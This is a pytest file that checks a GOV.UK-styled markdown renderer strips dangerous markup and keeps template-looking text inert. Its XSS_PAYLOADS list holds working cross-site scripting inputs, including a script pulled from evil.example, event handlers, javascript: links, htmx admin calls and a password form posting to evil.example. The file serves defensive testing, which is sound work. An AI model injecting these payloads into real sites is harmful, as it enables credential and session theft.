"""Markdown written by staff is rendered with GOV.UK styles and nothing in it can run."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from markupsafe import Markup

from portal.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    '<a href="https://example.org" onclick="alert(1)" onmouseover="alert(2)">click</a>',
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<p hx-get="/admin/users" hx-trigger="load" hx-target="body">load</p>',
    '<div hx-post="/evidence/manage/1/publish" data-hx-post="/x">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>body { display: none }</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://example.org" id="main-content" class="govuk-button">fake</a>',
]


def _all_attributes(html: str) -> list[tuple[str, str, str]]:
    soup = BeautifulSoup(html, "html.parser")
    return [(tag.name, name, str(value)) for tag in soup.find_all(True) for name, value in tag.attrs.items()]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_dangerous_markup_is_removed(payload: str) -> None:
    html = str(render_markdown(f"Before\n\n{payload}\n\nAfter"))
    soup = BeautifulSoup(html, "html.parser")
    for tag in ("script", "style", "iframe", "svg", "form", "input", "img", "details", "div"):
        assert soup.find(tag) is None, f"<{tag}> survived: {html}"
    for _tag, name, value in _all_attributes(html):
        assert not name.startswith("on"), f"event handler survived: {html}"
        assert not name.startswith(("hx-", "data-hx")), f"htmx attribute survived: {html}"
        assert name not in ("style", "id", "src", "action"), f"{name} survived: {html}"
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:", "/")), f"unsafe link survived: {html}"
        if name == "class":
            assert "govuk-button" not in value
    assert "alert(" not in "".join(value for _, _, value in _all_attributes(html))
    assert "Before" in html and "After" in html


def test_script_content_is_dropped_not_shown() -> None:
    html = str(render_markdown("<script>steal()</script>Safe text"))
    assert "steal()" not in html
    assert "Safe text" in html


def test_links_get_noopener_noreferrer_and_govuk_class() -> None:
    soup = BeautifulSoup(str(render_markdown("[NICE](https://www.nice.org.uk)")), "html.parser")
    link = soup.find("a")
    assert link["href"] == "https://www.nice.org.uk"
    assert set(link["rel"]) == {"noopener", "noreferrer"}
    assert link["class"] == ["govuk-link"]


def test_markdown_becomes_govuk_styled_html_with_headings_below_the_page_h1() -> None:
    source = (
        "# Background\n\n## Detail\n\nSome **bold** text.\n\n- one\n- two\n\n1. first\n\n"
        "| A | B |\n|---|---|\n| 1 | 2 |\n"
    )
    soup = BeautifulSoup(str(render_markdown(source)), "html.parser")
    assert soup.find("h1") is None, "the page owns the only <h1>"
    assert soup.find("h2", class_="govuk-heading-m").get_text() == "Background"
    assert soup.find("h3", class_="govuk-heading-s").get_text() == "Detail"
    assert soup.find("p", class_="govuk-body").find("strong").get_text() == "bold"
    assert soup.find("ul", class_="govuk-list--bullet")
    assert soup.find("ol", class_="govuk-list--number")
    assert soup.find("table", class_="govuk-table").find("td", class_="govuk-table__cell").get_text() == "1"


def test_result_is_markup_so_templates_need_no_safe_filter() -> None:
    assert isinstance(render_markdown("text"), Markup)
    assert render_markdown("") == Markup("")
    assert render_markdown("   \n") == Markup("")


def test_text_that_looks_like_template_code_stays_text() -> None:
    html = str(render_markdown("{{ 7*7 }} and {% if %}"))
    assert "{{ 7*7 }}" in html
    assert "49" not in html
